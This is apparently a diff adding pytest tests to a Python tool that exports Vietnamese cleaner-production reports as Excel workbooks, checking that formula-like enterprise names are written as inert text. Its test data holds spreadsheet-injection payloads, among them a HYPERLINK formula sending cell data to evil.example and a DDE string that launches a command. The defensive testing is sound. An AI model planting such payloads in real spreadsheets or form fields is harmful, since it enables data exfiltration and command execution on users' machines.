@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import zipfile
 from dataclasses import replace
 from datetime import datetime
 from io import BytesIO
@@ -175,3 +176,39 @@ def test_an_english_workbook(report: ConsolidatedReport) -> None:
     workbook = load_workbook(BytesIO(render_xlsx(replace(report, language="en"))))
     assert workbook.sheetnames[1] == "Indicators"
     assert workbook["Funding"]["B1"].value == "Agency"
+
+
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def test_text_that_a_spreadsheet_would_read_as_a_formula_is_written_as_inert_text(report: ConsolidatedReport) -> None:
+    # Finding 5 of issue 12: an enterprise named "=..." became a live formula in the coordinator's workbook.
+    from sxsh_flow.reports.model import EnterpriseRow
+
+    hostile = tuple(EnterpriseRow(name, name, "Đánh giá nhanh SXSH", 2017, name) for name in HOSTILE_NAMES)
+    rendered = render_xlsx(replace(report, enterprises=hostile))
+    with zipfile.ZipFile(BytesIO(rendered)) as package:
+        sheets = [package.read(name) for name in package.namelist() if name.startswith("xl/worksheets/")]
+    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)  # not one formula in the file
+    rows = _by_header(load_workbook(BytesIO(rendered))["Doanh nghiệp"])
+    for row, name in zip(rows, HOSTILE_NAMES, strict=True):
+        for key in ("Tên doanh nghiệp", "Ngành sản xuất", "Đơn vị báo cáo"):
+            assert row[key].data_type == "s"
+            assert row[key].value == "'" + name  # OWASP: a leading apostrophe, so a CSV saved from it stays inert
+
+
+def test_numbers_stay_numbers_even_negative_ones(report: ConsolidatedReport) -> None:
+    from sxsh_flow.reports.model import FundingRow
+
+    total = FundingRow("Tổng cộng", {"central_budget": -5, "local_budget": 12_345_678_901_234_567_890_123_456})
+    workbook = load_workbook(BytesIO(render_xlsx(replace(report, funding_total=total, funding_by_agency=()))))
+    values = [cell.value for row in workbook["Kinh phí"].iter_rows() for cell in row]
+    assert -5 in values
+    assert any(isinstance(value, int | float) and value > 10**25 for value in values)
